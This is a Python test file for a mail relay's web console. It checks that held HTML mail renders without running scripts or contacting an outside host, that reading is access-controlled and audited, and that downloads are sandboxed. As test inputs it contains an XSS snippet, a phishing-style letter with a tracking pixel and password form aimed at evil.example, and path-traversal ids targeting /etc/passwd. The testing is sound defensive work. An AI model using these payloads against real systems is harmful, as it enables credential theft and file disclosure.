"""Held mail opened in the console: in a real browser nothing of it is fetched or run, whatever it holds."""

from __future__ import annotations

import re
import threading
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest
from playwright.sync_api import Browser, Page

from tests.browser import Window, chromium
from tests.product import Hops, Product, message, until
from tests.unit.test_reading_hostile import ATTACKS
from tests.webconsole import Visit, add_user, signed_in

# The first message of a sender goes out, all others are held.
POLICY = """
[limit]
action = "hold"
[limit.sender]
messages_per_day = 1
[hold]
wait = 20000.0
"""
_HELD = re.compile(r"held for review as ([0-9a-z]{16})")


class Elsewhere(ThreadingHTTPServer):
    """The place that hostile mail wants to reach: it answers everything, and remembers who came."""

    def __init__(self) -> None:
        came = self.came = list[str]()

        class Handler(BaseHTTPRequestHandler):
            def do_GET(self) -> None:
                came.append(self.path)
                self.send_response(200)
                self.send_header("Content-Type", "text/html")
                self.end_headers()

            do_POST = do_GET  # noqa: N815 -- the name is the base class's.

            def log_message(self, format: str, *args: object) -> None:
                """Say nothing."""

        super().__init__(("127.0.0.1", 0), Handler)
        self.address = f"127.0.0.1:{self.server_port}"

    def of(self, attack: str) -> str:
        """An attack that is aimed at this place."""
        return aimed(ATTACKS[attack], self.address)


def aimed(text: str, address: str) -> str:
    """`text` with everything that leads to evil.example leading to this address, wherever it is looked at."""
    return re.sub(r"(?:https?:)?//evil\.example", f"http://{address}", text)


@pytest.fixture(scope="module")
def elsewhere() -> Iterator[Elsewhere]:
    with Elsewhere() as server:
        thread = threading.Thread(target=server.serve_forever)
        thread.start()
        yield server
        server.shutdown()
        thread.join()


@pytest.fixture(scope="module")
def product(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Product]:
    with Hops() as hops:
        folder, hop = tmp_path_factory.mktemp("content"), hops.start()
        with Product.made(folder, smarthosts=[hop.address], policy=POLICY, relays=1) as made:
            add_user(made, "ann", "admin")
            hold(made, message("the first one"))
            yield made


@pytest.fixture(scope="module")
def browser() -> Iterator[Browser]:
    with chromium() as found:
        yield found


def hold(product: Product, content: bytes) -> str:
    """Send a message; its id, if it is held."""
    with product.client() as client:
        answer = client.submit("anna@a.test", ["x@there.test"], content)
    assert answer.startswith("250 "), answer
    found = _HELD.search(answer)
    return found[1] if found else ""


def letter(text: str) -> bytes:
    """A message with this HTML."""
    return message("a letter", text, Content_Type="text/html; charset=utf-8", MIME_Version="1.0")


def test_a_browser_would_be_led_astray(elsewhere: Elsewhere, browser: Browser) -> None:
    """The attacks are real, and what follows would notice them."""
    page = browser.new_page()
    alarms = watched(page)
    for attack in ("script", "onerror", "srcset", "css url", "meta refresh"):
        page.set_content(elsewhere.of(attack), wait_until="load")
    # A page is asked for a moment after its document was loaded.
    until(lambda: [path for path in elsewhere.came if path == "/"] or page.wait_for_timeout(20), alarms)
    page.close()
    assert any("1" in alarm for alarm in alarms)
    assert {"/x.js", "/b.png"} <= set(elsewhere.came)
    elsewhere.came.clear()


def watched(page: Page) -> list[str]:
    """What scripts of a page say."""
    alarms: list[str] = []

    def heard(dialog: object) -> None:
        alarms.append(dialog.message)  # type: ignore[attr-defined]
        dialog.dismiss()  # type: ignore[attr-defined]

    page.on("dialog", heard)
    return alarms


@pytest.mark.timeout(300)
def test_nothing_is_fetched_and_nothing_runs(product: Product, elsewhere: Elsewhere, browser: Browser) -> None:
    ids = {attack: hold(product, letter(elsewhere.of(attack).replace("\0", ""))) for attack in ATTACKS}
    assert all(ids.values())
    with Window(browser, product) as window:
        window.sign_in("ann")
        alarms = watched(window.page)
        for attack, id_ in ids.items():
            window.open(f"/held/{id_}/content")
            assert len(window.page.frames) <= 2, attack
            for frame in window.page.frames[1:]:
                assert frame.url.endswith(f"/held/{id_}/frame"), attack
                # Nothing that could be clicked, typed into or sent is there.
                assert frame.locator("a, form, input, button, img, iframe, script, svg, [href], [src]").count() == 0
            assert alarms == [], attack
            assert window.page.url.endswith(f"/held/{id_}/content"), attack
        window.page.wait_for_load_state("networkidle")
    assert elsewhere.came == []


def test_the_page_can_be_read_by_everybody(product: Product, elsewhere: Elsewhere, browser: Browser) -> None:
    text = (
        '<h1>Your parcel</h1><p>Pay at <a href="http://evil.example/pay">www.bank.test</a> today.</p>'
        '<p style="display:none">meadow kettle harbour</p><img src="http://evil.example/p.gif" width=1 height=1>'
        "<form action=http://evil.example/f><input type=password name=pin></form>"
    )
    text = aimed(text, elsewhere.address)
    id_ = hold(product, letter(text))
    for size, dark in (((1360, 850), False), ((390, 800), True)):
        with Window(browser, product, dark=dark) as window:
            window.sign_in("ann")
            window.page.set_viewport_size({"width": size[0], "height": size[1]})
            window.open(f"/held/{id_}/content")
            assert window.overflow() <= 0
            assert window.hindrances() == []
            shown = window.page.frame_locator("iframe.mail")
            assert shown.locator(".misleading").inner_text() == "www.bank.test"
            assert "leads elsewhere: 127.0.0.1" in shown.locator(".target").inner_text()
            assert "meadow kettle harbour" in shown.locator(".hidden").inner_text()
            # The style sheet inside is in force though everything else is forbidden.
            assert shown.locator(".hidden").evaluate("one => getComputedStyle(one).outlineStyle") == "dashed"
            assert "a picture" not in window.page.content()
    assert elsewhere.came == []


def opened(visit: Visit, id_: str) -> list[str]:
    found = visit.api("GET", "/audit", what="held.open", subject=id_).json()["items"]
    return sorted(entry["by"] for entry in found)


def test_each_opening_is_written_down_once_a_person(product: Product) -> None:
    id_ = hold(product, message("private", "Dear Bob, this is between us."))
    with signed_in(product, "ann", add=False) as ann, signed_in(product, "otto", role="operator") as otto:
        assert opened(ann, id_) == []
        for path in ("content", "frame", "raw", "content"):
            assert ann.get(f"/held/{id_}/{path}").status_code == 200
        assert ann.api("GET", f"/held/{id_}/content").json()["text"].strip() == "Dear Bob, this is between us."
        assert opened(ann, id_) == ["console:ann"]
        otto.get(f"/held/{id_}/frame")
        assert opened(ann, id_) == ["console:ann", "console:otto"]


def test_who_may_not_read_mail_does_not(product: Product) -> None:
    id_ = hold(product, message("private", "Dear Bob, this is between us."))
    with signed_in(product, "vera", role="viewer") as vera:
        for path in ("content", "frame", "raw"):
            answer = vera.get(f"/held/{id_}/{path}")
            assert answer.status_code == 403
            assert "between us" not in answer.text
        assert vera.api("GET", f"/held/{id_}/content").status_code == 403
        assert opened(vera, id_) == []
    stranger = Visit(product.addresses["console"])
    assert stranger.http.get(f"/held/{id_}/raw").status_code == 303
    assert stranger.api("GET", f"/held/{id_}/raw").status_code == 401
    stranger.http.close()


def test_the_download_opens_nowhere(product: Product) -> None:
    id_ = hold(product, letter("<script>alert(1)</script>"))
    with signed_in(product, "ann", add=False) as ann:
        answer = ann.get(f"/held/{id_}/raw")
        assert answer.headers["content-type"] == "message/rfc822"
        assert answer.headers["content-disposition"] == f'attachment; filename="{id_}.eml"'
        assert answer.headers["x-content-type-options"] == "nosniff"
        assert answer.headers["content-security-policy"] == "default-src 'none'; sandbox"
        assert answer.content.endswith(b"\r\n\r\n<script>alert(1)</script>\r\n")
        frame = ann.get(f"/held/{id_}/frame")
        assert frame.headers["content-security-policy"].endswith("; sandbox")
        assert frame.headers["x-frame-options"] == "SAMEORIGIN"
        assert frame.headers["referrer-policy"] == "no-referrer"


@pytest.mark.parametrize("id_", ["..%2f..%2fguard.toml", "%2e%2e", "0", "a%00b", "x" * 300, "%2fetc%2fpasswd"])
def test_other_files_are_not_read(product: Product, id_: str) -> None:
    with signed_in(product, "ann", add=False) as ann:
        for path in ("content", "frame", "raw"):
            answer = ann.get(f"/held/{id_}/{path}")
            # A NUL is no question at all.
            assert answer.status_code == (400 if "%00" in id_ else 404)
            assert "root:" not in answer.text
            assert "[server]" not in answer.text
